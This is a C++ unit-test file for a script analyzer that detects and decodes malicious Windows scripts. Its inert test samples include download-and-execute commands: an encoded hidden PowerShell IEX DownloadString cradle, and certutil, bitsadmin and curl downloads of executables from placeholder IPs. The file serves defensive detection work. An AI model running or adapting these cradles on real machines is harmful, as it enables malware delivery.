// The script analyzer on inert generated scripts: recognition by content (and what must
// not be taken for a script), decoding of the usual wrappers, and each finding.
#include "analyzers/script/script.h"

#include <gtest/gtest.h>

#include <algorithm>

#include "analyzers/text_scan.h"
#include "support/test_support.h"

namespace kagami::analyzers {
namespace {

struct Scanned {
    Limits limits;
    Context ctx{limits, {}};
    ScriptAnalyzer analyzer;
    Output out{analyzer.name(), "x", ctx};
    explicit Scanned(std::string_view bytes) { analyzer.analyze({bytes, "x", "x", 0}, out); }
    std::vector<std::string> facts(std::string_view name) {
        std::vector<std::string> v;
        for (const auto& f : out.facts())
            if (f.name == name) v.push_back(f.value);
        return v;
    }
    bool has_fact_containing(std::string_view name, std::string_view part) {
        auto v = facts(name);
        return std::any_of(v.begin(), v.end(),
                           [&](const std::string& s) { return s.find(part) != std::string::npos; });
    }
    const Finding* finding(std::string_view id) {
        for (const auto& f : out.findings())
            if (f.id == id) return &f;
        return nullptr;
    }
    std::vector<std::string> finding_ids() {
        std::vector<std::string> v;
        for (const auto& f : out.findings()) v.push_back(f.id);
        std::sort(v.begin(), v.end());
        return v;
    }
};

std::string utf16le(std::string_view s, bool bom) {
    std::string out = bom ? "\xFF\xFE" : "";
    for (char c : s) out += {c, '\0'};
    return out;
}

std::string base64(std::string_view in) {
    static constexpr char kAlphabet[] =
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    std::string out;
    std::size_t i = 0;
    for (; i + 2 < in.size(); i += 3) {
        unsigned v =
            (unsigned char)in[i] << 16 | (unsigned char)in[i + 1] << 8 | (unsigned char)in[i + 2];
        for (int k = 18; k >= 0; k -= 6) out += kAlphabet[(v >> k) & 63];
    }
    if (i + 1 == in.size()) {
        unsigned v = (unsigned char)in[i] << 16;
        out += kAlphabet[(v >> 18) & 63];
        out += kAlphabet[(v >> 12) & 63];
        out += "==";
    } else if (i + 2 == in.size()) {
        unsigned v = (unsigned char)in[i] << 16 | (unsigned char)in[i + 1] << 8;
        out += kAlphabet[(v >> 18) & 63];
        out += kAlphabet[(v >> 12) & 63];
        out += kAlphabet[(v >> 6) & 63];
        out += '=';
    }
    return out;
}

// Inert samples: they only name commands; nothing here is run.
constexpr std::string_view kPowerShell =
    "param([string]$Target = \"$env:TEMP\\report\")\n"
    "Set-StrictMode -Version Latest\n"
    "$items = Get-ChildItem -Path $Target -ErrorAction SilentlyContinue\n"
    "$items | ForEach-Object { Write-Host $_.Name }\n";
constexpr std::string_view kVbScript =
    "Option Explicit\r\nOn Error Resume Next\r\nDim fso\r\n"
    "Set fso = CreateObject(\"Scripting.FileSystemObject\")\r\n"
    "Sub Report()\r\n  MsgBox \"done\"\r\nEnd Sub\r\n";
constexpr std::string_view kJScript =
    "var fso = new ActiveXObject(\"Scripting.FileSystemObject\");\n"
    "function report(name) {\n  WScript.Echo(name);\n};\nreport(\"x\");\n";
constexpr std::string_view kBatch =
    "@echo off\r\nsetlocal\r\necho Building report...\r\nif exist out.txt del /q out.txt\r\n"
    "echo done\r\nendlocal\r\n";

TEST(ScriptAnalyzer, RecognisesEachLanguageByContent) {
    ScriptAnalyzer a;
    struct Case {
        std::string bytes;
        std::string type;
    };
    const Case cases[] = {
        {std::string(kPowerShell), "powershell"},
        {std::string(kVbScript), "vbscript"},
        {std::string(kJScript), "jscript"},
        {std::string(kBatch), "batch"},
        {"<?xml version=\"1.0\"?>\n<job id=\"a\">\n<script language=\"VBScript\">\n"
         "MsgBox \"x\"\n</script>\n</job>\n",
         "wsf"},
        {"<package><job><script language=\"JScript\">WScript.Echo(1);</script></job></package>",
         "wsf"},
        {utf16le(kPowerShell, true), "powershell"},
        {utf16le(kVbScript, false), "vbscript"},
        {"\xEF\xBB\xBF" + std::string(kBatch), "batch"},
    };
    for (const auto& c : cases) {
        EXPECT_TRUE(a.sniff(c.bytes)) << c.type;
        Scanned r(c.bytes);
        EXPECT_EQ(r.out.type(), c.type) << c.bytes.substr(0, 40);
        EXPECT_NE(r.finding("script.present"), nullptr);
    }
}

TEST(ScriptAnalyzer, DoesNotTakeOtherTextForAScript) {
    ScriptAnalyzer a;
    const std::string not_scripts[] = {
        "Dear team,\n\nPlease set the meeting for Monday. If you cannot attend, let me know.\n"
        "Dim lighting in room 3 is fine. Next, we will review the budget; see attached.\n",
        "date,amount,description\n2025-01-01,100,\"set of pens\"\n2025-01-02,250,rent\n",
        "{\"name\": \"report\", \"values\": [1, 2, 3], \"nested\": {\"ok\": true}}\n",
        "#include <stdio.h>\n\nint main(void) {\n    int x = 0;\n    for (int i = 0; i < 10; ++i)"
        " x += i;\n    printf(\"%d\\n\", x);\n    return 0;\n}\n",
        "2025-01-01 12:00:00 INFO service started pid=1234\n2025-01-01 12:00:01 WARN retry "
        "set to 3\n2025-01-01 12:00:02 ERROR connection refused\n",
        "def main():\n    import os\n    print(os.getcwd())\n\nif __name__ == '__main__':\n"
        "    main()\n",
        std::string("MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0", 16) + "var x; function f() {};",
        "",
    };
    for (const auto& s : not_scripts) EXPECT_FALSE(a.sniff(s)) << s.substr(0, 40);
}

TEST(ScriptAnalyzer, BenignBatchIsOnlyPresent) {
    Scanned r(kBatch);
    EXPECT_EQ(r.finding_ids(), std::vector<std::string>{"script.present"});
    const Finding* f = r.finding("script.present");
    EXPECT_EQ(f->attack, (std::vector<std::string>{"T1059", "T1204.002"}));
    EXPECT_EQ(r.facts("script.language"), std::vector<std::string>{"batch"});
}

TEST(ScriptAnalyzer, DecodesPowerShellEncodedCommand) {
    std::string command =
        "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.4/a.ps1')";
    std::string b64 = base64(utf16le(command, false));
    std::string bat = "@echo off\r\npowershell.exe -NoP -W Hidden -enc " + b64 + "\r\n";
    Scanned r(bat);
    EXPECT_EQ(r.out.type(), "batch");
    EXPECT_TRUE(r.has_fact_containing("script.decoded", command));
    const Finding* enc = r.finding("script.encoded_command");
    ASSERT_NE(enc, nullptr);
    EXPECT_EQ(enc->attack, (std::vector<std::string>{"T1059.001", "T1027"}));
    EXPECT_NE(enc->evidence.find("DownloadString"), std::string::npos);
    // What the decoded command does is reported too.
    EXPECT_NE(r.finding("script.downloader"), nullptr);
    EXPECT_NE(r.finding("script.execution"), nullptr);
    EXPECT_TRUE(r.has_fact_containing("script.url", "http://198.51.100.4/a.ps1"));
    EXPECT_TRUE(r.has_fact_containing("script.ioc", "198.51.100.4"));
    EXPECT_TRUE(r.has_fact_containing("script.ioc", "a.ps1"));
}

TEST(ScriptAnalyzer, AcceptsEveryPrefixOfEncodedCommand) {
    std::string b64 = base64(utf16le("Write-Host hello-from-test", false));
    for (std::string flag : {"-e", "-ec", "-EncodedCommand", "-enco", "/enc"}) {
        Scanned r("@echo off\r\npowershell " + flag + " \"" + b64 + "\"\r\n");
        EXPECT_TRUE(r.has_fact_containing("script.decoded", "hello-from-test")) << flag;
    }
    // -ExecutionPolicy is not an encoded command.
    Scanned r("@echo off\r\npowershell -ExecutionPolicy Bypass -File run.ps1\r\n");
    EXPECT_EQ(r.finding("script.encoded_command"), nullptr);
}

TEST(ScriptAnalyzer, DecodesFromBase64StringLiteral) {
    std::string inner = "Start-Process calc.exe";
    Scanned r(std::string(kPowerShell) +
              "$c = [System.Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('" +
              base64(utf16le(inner, false)) + "'))\nInvoke-Expression $c\n");
    EXPECT_TRUE(r.has_fact_containing("script.decoded", inner));
    EXPECT_NE(r.finding("script.encoded_command"), nullptr);
    ASSERT_NE(r.finding("script.execution"), nullptr);
}

TEST(ScriptAnalyzer, ReportsDownloaders) {
    struct Case {
        std::string script;
        std::string api;
    };
    const Case cases[] = {
        {"$u = 'https://files.example.net/p.exe'\nInvoke-WebRequest -Uri $u -OutFile "
         "\"$env:TEMP\\p.exe\"\nStart-Process \"$env:TEMP\\p.exe\"\n",
         "invoke-webrequest"},
        {"Dim x\r\nSet x = CreateObject(\"MSXML2.XMLHTTP\")\r\nx.Open \"GET\", "
         "\"http://203.0.113.5/d.bin\", False\r\nx.Send\r\nSet s = CreateObject(\"ADODB.Stream\")"
         "\r\nEnd Sub\r\n",
         "msxml2.xmlhttp"},
        {"@echo off\r\ncertutil -urlcache -split -f http://203.0.113.5/a.txt %TEMP%\\a.exe\r\n",
         "-urlcache"},
        {"@echo off\r\nbitsadmin /transfer j http://203.0.113.5/a.exe %TEMP%\\a.exe\r\n",
         "bitsadmin"},
        {"@echo off\r\ncurl -o %TEMP%\\a.exe https://203.0.113.5/a.exe\r\n", "curl"},
    };
    for (const auto& c : cases) {
        Scanned r(c.script);
        const Finding* f = r.finding("script.downloader");
        ASSERT_NE(f, nullptr) << c.script;
        EXPECT_EQ(f->evidence.substr(0, c.api.size()), c.api);
        EXPECT_EQ(f->attack, std::vector<std::string>{"T1105"});
    }
    // A download API without any URL is not a downloader.
    Scanned r(
        "$w = New-Object Net.WebClient\n$w.DownloadFile($args[0], $args[1])\nWrite-Host ok\n"
        "$null = 1\n");
    EXPECT_EQ(r.finding("script.downloader"), nullptr);
}

TEST(ScriptAnalyzer, ReportsExecution) {
    Scanned vb(
        "Dim sh\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"notepad.exe\", 0"
        "\r\nEnd Sub\r\n");
    ASSERT_NE(vb.finding("script.execution"), nullptr);
    EXPECT_EQ(vb.finding("script.execution")->attack, std::vector<std::string>{"T1059"});
    Scanned js(
        "var sh = new ActiveXObject(\"Shell.Application\");\nfunction go() {\n"
        "sh.ShellExecute(\"cmd.exe\", \"/c echo x\", \"\", \"open\", 0);\n};\n");
    EXPECT_NE(js.finding("script.execution"), nullptr);
    Scanned ps("$null = 1\n$s = 'Write-Host x'\niex $s\n$env:X = 1\n");
    EXPECT_NE(ps.finding("script.execution"), nullptr);
}

TEST(ScriptAnalyzer, DecodesCharacterCodeChains) {
    // Chr() chain in VBScript: "cmd /c calc"
    Scanned vb(
        "Dim a\r\na = Chr(99) & Chr(109) & Chr(100) & Chr(32) & Chr(47) & Chr(99) & "
        "ChrW(32) & Chr(&H63) & Chr(97) & Chr(108) & Chr(99)\r\nEnd Sub\r\n");
    EXPECT_TRUE(vb.has_fact_containing("script.decoded", "cmd /c calc"));
    EXPECT_NE(vb.finding("script.obfuscated"), nullptr);
    // String.fromCharCode in JScript
    Scanned js(
        "var s = String.fromCharCode(87,83,99,114,105,112,116,46,83,104,101,108,108);\n"
        "function f() { var o = new ActiveXObject(s); };\n");
    EXPECT_TRUE(js.has_fact_containing("script.decoded", "WScript.Shell"));
    EXPECT_NE(js.finding("script.obfuscated"), nullptr);
    // [char] casts in PowerShell
    Scanned ps(
        "$env:A = 1\n$x = [char]73 + [char]69 + [char]0x58 + [char]32 + [char]36\n"
        "Write-Host $x\n");
    EXPECT_TRUE(ps.has_fact_containing("script.decoded", "IEX $"));
}

TEST(ScriptAnalyzer, UndoesReversalAndReplaceTricks) {
    Scanned vb(
        "Dim s\r\ns = StrReverse(\"llehS.tpircSW\")\r\nSet o = CreateObject(s)\r\n"
        "t = Replace(\"p#o#w#e#r#s#h#e#l#l\", \"#\", \"\")\r\nEnd Sub\r\n");
    EXPECT_TRUE(vb.has_fact_containing("script.decoded", "reverse: WScript.Shell"));
    EXPECT_TRUE(vb.has_fact_containing("script.decoded", "replace: powershell"));
    Scanned js(
        "var a = \"exe.dmc\".split(\"\").reverse().join(\"\");\n"
        "var b = \"p#o#w#e#r\".replace(\"#\", \"\");\nfunction f() {};\nWScript.Echo(a);\n");
    EXPECT_TRUE(js.has_fact_containing("script.decoded", "reverse: cmd.exe"));
    EXPECT_TRUE(js.has_fact_containing("script.decoded", "replace: power"));
    EXPECT_NE(js.finding("script.obfuscated"), nullptr);
    Scanned ps(
        "$env:A = 1\n$a = 'noisserpxE-ekovnI'[-1..-17] -join ''\n$b = 'i-e-x' -replace "
        "'-',''\nWrite-Host $a\n");
    EXPECT_TRUE(ps.has_fact_containing("script.decoded", "reverse: Invoke-Expression"));
    EXPECT_TRUE(ps.has_fact_containing("script.decoded", "replace: iex"));
}

TEST(ScriptAnalyzer, ReportsDenseConcatenation) {
    std::string js = "var fso = new ActiveXObject(\"Scripting.FileSystemObject\");\nvar s = ";
    for (int i = 0; i < 200; ++i) js += "\"a\"+\"b\"+";
    js += "\"c\";\nfunction f() {};\n";
    Scanned r(js);
    EXPECT_NE(r.finding("script.obfuscated"), nullptr);
    Scanned plain(kJScript);
    EXPECT_EQ(plain.finding("script.obfuscated"), nullptr);
}

// The Script Encoder sample from ClamAV's unit tests, and one built here whose plain text
// is known: "WScript.Echo" encodes to the bytes below with the public tables.
TEST(ScriptAnalyzer, DecodesScriptEncoderFiles) {
    // "function foo(){alert('test@<test>\r\n');" from ClamAV's htmlnorm_encode.html.
    std::string jse = "#@~^LAAAAA==W!x^DkKxP6WKc#Pls+MYcvD+/D@$@!D+/D@*@#@&E#p8Vg0AAA==^#~@";
    ScriptAnalyzer a;
    EXPECT_TRUE(a.sniff(jse));
    Scanned r(jse);
    EXPECT_EQ(r.out.type(), "jse");
    EXPECT_TRUE(
        r.has_fact_containing("script.decoded", "screnc: function foo(){alert('test@<test>"));
    ASSERT_NE(r.finding("script.obfuscated"), nullptr);
    EXPECT_NE(r.finding("script.obfuscated")->evidence.find("Script Encoder"), std::string::npos);
}

// The fuzz seed was encoded with the inverse of the same public tables: a round trip.
TEST(ScriptAnalyzer, DecodesEncodedVbeSeed) {
    std::string vbe =
        test::read_file(test::source_dir() / "fuzz" / "corpus" / "script" / "encoded.vbe");
    ASSERT_FALSE(vbe.empty());
    Scanned r(vbe);
    EXPECT_EQ(r.out.type(), "vbe");
    EXPECT_TRUE(r.has_fact_containing("script.decoded", "screnc: WScript.Echo \"kagami seed\""));
}

TEST(ScriptAnalyzer, DecodesClamavScrencSample) {
    auto path = test::corpora_dir() / "clamav_unit_test_inputs" / "other_scanfiles" / "screnc_test";
    std::string bytes = test::read_file(path);
    if (bytes.empty()) GTEST_SKIP() << "clamav_unit_test_inputs not available";
    ScriptAnalyzer a;
    ASSERT_TRUE(a.sniff(bytes));
    Scanned r(bytes);
    auto decoded = r.facts("script.decoded");
    ASSERT_FALSE(decoded.empty());
    // htmlnorm's reference output (encode.js.ref, lower-cased by the normaliser) shows a
    // function holding a long string of 'f' characters.
    EXPECT_NE(decoded[0].find("function foo() {"), std::string::npos) << decoded[0].substr(0, 80);
    EXPECT_NE(decoded[0].find("var x=\"FFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFF"), std::string::npos);
    EXPECT_EQ(r.out.type(), "jse");
}

TEST(ScriptAnalyzer, ToleratesHostileInput) {
    // A 1 MB single-line base64 argument, unterminated literals, invalid UTF-8, lone
    // surrogates in UTF-16, a truncated encoder header.
    std::string big = "@echo off\r\npowershell -enc " + std::string(1u << 20, 'A') + "\r\n";
    Scanned r1(big);
    EXPECT_NE(r1.finding("script.present"), nullptr);
    Scanned r2(
        "var s = \"unterminated\nfunction f() {};\nvar t = 'also\nWScript.Echo(1);\n/* open");
    EXPECT_NE(r2.finding("script.present"), nullptr);
    Scanned r3("Dim x\r\nx = \"\xFF\xFE\xC0\x80\"\r\nEnd Sub\r\n");
    for (const auto& f : r3.out.facts()) EXPECT_TRUE(core::is_valid_utf8(f.value));
    Scanned r4(std::string("\xFF\xFE\x00\xD8\x41\x00", 6));
    Scanned r5("#@~^");
    Scanned r6("#@~^ZZZZZZ==@");
    Scanned r7(std::string(100000, '#') + "@~^");
    std::string nested = "$env:A=1\n$null=1\n";
    for (int i = 0; i < 50; ++i) nested += "[char]" + std::to_string(65 + i % 26) + "+";
    Scanned r8(nested);
    // Whatever was read, every fact is valid UTF-8 and nothing was decoded from junk.
    for (Scanned* r : {&r4, &r5, &r6, &r7, &r8})
        for (const auto& f : r->out.facts()) EXPECT_TRUE(core::is_valid_utf8(f.value)) << f.name;
    EXPECT_TRUE(r5.facts("script.decoded").empty());
    EXPECT_TRUE(r7.facts("script.decoded").empty());
}

TEST(ScriptAnalyzer, BoundsDecodedLayers) {
    // 100 separate Chr chains: only kMaxLayers are decoded and the limit is reported.
    std::string vb = "Dim a\r\nEnd Sub\r\n";
    for (int i = 0; i < 100; ++i) vb += "a = Chr(65) & Chr(66) & Chr(67) & Chr(68)\r\n";
    Scanned r(vb);
    EXPECT_EQ(r.facts("script.decoded").size(), 32u);
    EXPECT_NE(r.finding("limit.script.layers"), nullptr);
}

}  // namespace
}  // namespace kagami::analyzers
